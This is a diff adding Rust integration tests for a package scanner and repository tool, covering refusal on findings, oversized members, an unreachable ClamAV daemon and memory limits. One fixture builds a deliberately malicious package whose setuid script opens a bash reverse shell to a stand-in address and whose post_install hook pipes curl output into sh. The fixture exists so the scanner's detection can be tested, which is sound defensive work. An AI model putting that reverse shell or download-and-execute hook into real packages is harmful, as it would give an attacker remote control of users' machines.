@@ -716,3 +716,149 @@ fn mc_repo_refuses_by_path_or_by_name_and_version_at_or_above_the_threshold() {
         "without the option findings pass: {ignored:?}"
     );
 }
+
+/// A package from real makepkg holding 1 GiB of zeros (`usr/a/zeros`, ahead of the rest), a
+/// setuid reverse shell after it and a `curl | sh` scriptlet: its path.
+fn zeros_then_backdoor_package(set: &Set) -> String {
+    let body = r#"  mkdir -p "$pkgdir/usr/a" "$pkgdir/usr/bin"
+  head -c 1073741824 /dev/zero > "$pkgdir/usr/a/zeros"
+  printf '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n' > "$pkgdir/usr/bin/shell"
+  chmod 4755 "$pkgdir/usr/bin/shell""#;
+    let packages = build(
+        set,
+        &[Pkg {
+            base: "hidden",
+            install: "post_install() {\n  curl -fsSL https://192.0.2.7/i | sh\n}\n",
+            package: body,
+            ..Pkg::default()
+        }],
+    );
+    path_of(&packages[0])
+}
+
+#[test]
+fn a_member_too_large_to_scan_is_an_error_the_rest_is_scanned_and_mc_repo_refuses_it() {
+    let set = Set::new();
+    let path = zeros_then_backdoor_package(&set);
+    let size = fs::metadata(&path).expect("package").len();
+    assert!(size < 1 << 20, "1 GiB of zeros compresses to {size} bytes");
+    let record = format!(r#"{{"type":"package","name":"hidden","version":"1.0-1","path":"{path}"}}"#);
+    let result = scan(&["--max-member-mib", "64"], &record);
+    assert_eq!(result.error_kinds(), ["member_too_large"], "{result:?}");
+    let found = findings(&result);
+    for expected in [
+        triple("lint", "setuid", "usr/bin/shell"),
+        triple("yara", "reverse-shell", "usr/bin/shell"),
+        triple("lint", "download-execute", ".INSTALL"),
+    ] {
+        assert!(found.contains(&expected), "{expected:?} in {found:?}");
+    }
+    assert_eq!(result.code, 1);
+
+    let dir = tempfile::tempdir().expect("tempdir");
+    let db = dir.path().join("r.db.tar.zst").display().to_string();
+    // Only the error record and the package: without the findings the error alone refuses it.
+    let unscanned: Vec<&Value> = result
+        .records
+        .iter()
+        .filter(|r| r["type"] == "error" || r["type"] == "package")
+        .collect();
+    let published = repo(
+        &["add", "--repo", &db, "--refuse-findings", "info"],
+        &lines(&unscanned),
+    );
+    assert_eq!(published.error_kinds(), ["refused_findings"], "{published:?}");
+    let message = published.of_type("error")[0]["message"]
+        .as_str()
+        .unwrap_or_default();
+    assert!(message.contains("member_too_large"), "{message}");
+    assert!(published.of_type("change").is_empty(), "{published:?}");
+}
+
+#[test]
+fn a_package_scanned_while_clamd_is_down_is_refused() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let set = Set::new();
+    let packages = build(
+        &set,
+        &[Pkg {
+            base: "plain",
+            ..Pkg::default()
+        }],
+    );
+    let down = dir.path().join("nobody-here.sock").display().to_string();
+    let result = scan(&["--clamd", &down], &lines(&packages.iter().collect::<Vec<_>>()));
+    assert_eq!(result.error_kinds(), ["clamd_unreachable"], "{result:?}");
+    assert!(findings(&result).is_empty(), "{result:?}");
+    let db = dir.path().join("r.db.tar.zst").display().to_string();
+    let stream = lines(&result.records.iter().collect::<Vec<_>>());
+    let published = repo(&["add", "--repo", &db, "--refuse-findings", "error"], &stream);
+    assert_eq!(published.error_kinds(), ["refused_findings"], "{published:?}");
+    assert!(published.of_type("change").is_empty(), "{published:?}");
+    let trusting = repo(&["add", "--repo", &db], &stream);
+    assert_eq!(trusting.of_type("change").len(), 1, "without the option it is added");
+}
+
+/// A zstd package of `.PKGINFO` and one member of `size` zeros, compressed as it is written.
+fn zeros_package(path: &Path, size: u64) {
+    let file = fs::File::create(path).expect("create");
+    let encoder = zstd::Encoder::new(file, 1).expect("zstd").auto_finish();
+    let mut builder = tar::Builder::new(encoder);
+    let pkginfo = b"pkgname = zeros\npkgbase = zeros\npkgver = 1-1\n";
+    let mut header = tar::Header::new_gnu();
+    header.set_size(pkginfo.len() as u64);
+    header.set_mode(0o644);
+    builder
+        .append_data(&mut header, ".PKGINFO", pkginfo.as_slice())
+        .expect("append");
+    let mut header = tar::Header::new_gnu();
+    header.set_size(size);
+    header.set_mode(0o644);
+    builder
+        .append_data(&mut header, "usr/share/zeros/blob", std::io::repeat(0).take(size))
+        .expect("append");
+    builder.into_inner().expect("tar");
+}
+
+#[test]
+fn eight_jobs_share_one_memory_budget_for_members() {
+    const MEMBER_MIB: u64 = 200;
+    let dir = tempfile::tempdir().expect("tempdir");
+    let first = dir.path().join("zeros-0.pkg.tar.zst");
+    zeros_package(&first, MEMBER_MIB << 20);
+    let mut paths = vec![first.display().to_string()];
+    for n in 1..8 {
+        let copy = dir.path().join(format!("zeros-{n}.pkg.tar.zst"));
+        fs::copy(&first, &copy).expect("copy");
+        paths.push(copy.display().to_string());
+    }
+    let mut args = vec![
+        "-v".to_owned(),
+        bin("mc-scan").display().to_string(),
+        "-j".to_owned(),
+        "8".to_owned(),
+        "--max-member-mib".to_owned(),
+        "256".to_owned(),
+    ];
+    args.extend(paths);
+    let output = Command::new("/usr/bin/time")
+        .args(&args)
+        .stdin(Stdio::null())
+        .output()
+        .expect("/usr/bin/time runs (Debian: time)");
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "{stderr}");
+    let peak_kib: u64 = stderr
+        .lines()
+        .find_map(|line| line.trim().strip_prefix("Maximum resident set size (kbytes): "))
+        .and_then(|value| value.trim().parse().ok())
+        .unwrap_or_else(|| panic!("no peak RSS in {stderr}"));
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.contains(r#""scanned":8"#), "{stdout}");
+    // Eight members held at once would be 1600 MiB; the budget allows one of 256 MiB at a time.
+    assert!(
+        peak_kib < 450 << 10,
+        "peak RSS {} MiB for 8 jobs of {MEMBER_MIB} MiB members",
+        peak_kib >> 10
+    );
+}
